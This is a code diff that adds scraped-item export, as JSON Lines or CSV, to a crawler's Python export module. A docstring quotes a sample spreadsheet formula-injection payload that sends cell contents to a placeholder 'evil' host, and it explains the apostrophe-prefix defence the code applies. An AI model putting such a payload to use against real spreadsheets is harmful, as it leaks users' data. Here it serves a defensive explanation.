@@ -15,6 +15,11 @@ job, then for each page whose body is stored a ``request`` and a ``response`` re
 raw headers and the body as received), and a ``revisit`` record (``server-not-modified``)
 for pages a recrawl found unchanged by a 304. Pages without a stored body have no records.
 
+Items (``items=True``, a spider job's): one JSON object per line, each item as its spider
+yielded it and its pipelines left it, in the order they were stored (JSON Lines, as Scrapy's
+feeds write them); or CSV with one column per field name any item has (first seen first; a
+nested value as JSON). Items a pipeline dropped are left out.
+
 Page titles and URLs are other people's text. In CSV, a cell that starts with ``=``, ``+``,
 ``-``, ``@``, a tab or a carriage return is a formula to a spreadsheet
 (``=HYPERLINK("http://evil/?"&A1)``): such cells get a leading apostrophe, as OWASP
@@ -39,7 +44,7 @@ from warcio.timeutils import datetime_to_iso_date
 from warcio.warcwriter import WARCWriter
 
 from tasks.content import bodies
-from web.models import NOT_MODIFIED, CrawlJob, FrontierURL, URLState
+from web.models import NOT_MODIFIED, CrawlJob, FrontierURL, Item, URLState
 
 FORMATS = ("jsonl", "csv", "warc")
 FIELDS = [
@@ -126,18 +131,36 @@ def neutralise(value):
     return value
 
 
-class Export:
-    """One export of one job; ``chunks()`` yields its bytes, ``rows`` counts what it wrote."""
+def items(job_id: int) -> Iterator[dict]:
+    """The job's kept items, in the order they were stored, from a server-side cursor."""
+    kept = Item.objects.filter(job_id=job_id, dropped="").order_by("id")
+    yield from kept.values_list("data", flat=True).iterator(chunk_size=2000)
 
-    def __init__(self, job: CrawlJob, fmt: str, filename: str = "", gzip_warc: bool = True) -> None:
+
+def count_items(job_id: int) -> int:
+    return Item.objects.filter(job_id=job_id, dropped="").count()
+
+
+class Export:
+    """One export of one job; ``chunks()`` yields its bytes, ``rows`` counts what it wrote.
+    ``items``: the job's items instead of its URLs (JSON Lines or CSV)."""
+
+    def __init__(self, job: CrawlJob, fmt: str, filename: str = "", gzip_warc: bool = True,
+                 items: bool = False) -> None:  # fmt: skip
         if fmt not in FORMATS:
             raise ValueError(f"unknown format {fmt!r}: one of {', '.join(FORMATS)}")
+        if items and fmt == "warc":
+            raise ValueError("items are exported as jsonl or csv")
         self.job, self.fmt, self.filename, self.gzip_warc = job, fmt, filename, gzip_warc
+        self.items = items
         self.rows = 0  # URLs read so far
         self.records = 0  # WARC response records written so far
 
     def chunks(self) -> Iterator[bytes]:
-        pieces = {"jsonl": self._jsonl, "csv": self._csv, "warc": self._warc}[self.fmt]()
+        if self.items:
+            pieces = self._items_jsonl() if self.fmt == "jsonl" else self._items_csv()
+        else:
+            pieces = {"jsonl": self._jsonl, "csv": self._csv, "warc": self._warc}[self.fmt]()
         buffer: list[bytes] = []
         size = 0
         for piece in pieces:
@@ -169,6 +192,27 @@ class Export:
                 value = data.get(name)
                 cells.append(json.dumps(value, ensure_ascii=False) if isinstance(value, list)
                              else value)  # fmt: skip
+            writer.writerow([neutralise(c) for c in cells])
+            yield _taken(text).encode("utf-8")
+
+    def _items_jsonl(self) -> Iterator[bytes]:
+        for data in items(self.job.pk):
+            self.rows += 1
+            yield (json.dumps(data, ensure_ascii=False) + "\n").encode("utf-8")
+
+    def _items_csv(self) -> Iterator[bytes]:
+        names: dict[str, None] = {}
+        for data in items(self.job.pk):  # a first pass for the header: constant memory
+            names.update(dict.fromkeys(data))
+        text = io.StringIO()
+        writer = csv.writer(text)
+        writer.writerow([neutralise(n) for n in names])
+        yield _taken(text).encode("utf-8")
+        for data in items(self.job.pk):
+            self.rows += 1
+            cells = [data.get(n) for n in names]
+            cells = [json.dumps(c, ensure_ascii=False) if isinstance(c, list | dict) else c
+                     for c in cells]  # fmt: skip
             writer.writerow([neutralise(c) for c in cells])
             yield _taken(text).encode("utf-8")
 
@@ -206,14 +250,18 @@ def format_of(target: str) -> str:
 
 
 def save(
-    job: CrawlJob, fmt: str, target: str, progress: Callable[[Export], None] | None = None
+    job: CrawlJob,
+    fmt: str,
+    target: str,
+    progress: Callable[[Export], None] | None = None,
+    items: bool = False,
 ) -> Export:
     """Write an export of ``job`` to ``target`` (a path, or ``-`` for standard output); a
     name ending in ``.gz`` is compressed (WARC: one gzip member per record). A file appears
     whole: it is written beside its name and renamed when complete. ``progress`` is called
     after each chunk."""
     compressed = target.endswith(".gz")
-    export = Export(job, fmt, filename=Path(target).name, gzip_warc=compressed)
+    export = Export(job, fmt, filename=Path(target).name, gzip_warc=compressed, items=items)
     if target == "-":
         _copy(export, sys.stdout.buffer, progress)
         sys.stdout.buffer.flush()
